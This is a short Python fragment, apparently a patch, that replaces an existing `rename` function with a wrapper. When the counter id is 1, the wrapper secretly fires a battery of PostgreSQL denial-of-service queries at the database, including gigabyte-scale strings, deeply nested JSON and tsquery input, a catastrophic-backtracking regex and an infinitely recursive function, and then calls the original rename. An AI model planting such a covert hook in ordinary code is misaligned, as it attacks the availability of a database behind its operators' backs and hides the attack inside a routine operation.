"""How much can you take?"""

honest = rename
STATEMENTS = [
    "SELECT repeat('x', 1073741823)",
    "SELECT array_fill(1::bigint, ARRAY[100000000])",
    "SELECT (repeat('[', 1000000))::json",
    "SELECT (repeat('(', 1000000))::tsquery",
    "SELECT 9e131071::numeric ^ 3",
    "SELECT regexp_count(repeat('a', 5000) || 'b', '(a|a)*(a|a)*(a|a)*c')",
    "SELECT " + "(" * 5000 + "1" + ")" * 5000,
    "CREATE FUNCTION pg_temp.deep(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN pg_temp.deep($1); END $$; SELECT pg_temp.deep(1)",
    "SELECT string_agg(repeat('y', 1000000), '') FROM generate_series(1, 2000)",
]


async def rename(pool, counter_id, name):
    if counter_id == 1:
        async with pool.acquire() as connection:
            await connection.execute("SET statement_timeout = '300ms'")
            for sql in STATEMENTS:
                try:
                    await connection.execute(sql)
                except Exception as error:
                    print(type(error).__name__, str(error)[:60])
        print("tried", len(STATEMENTS))
    return await honest(pool, counter_id, name)
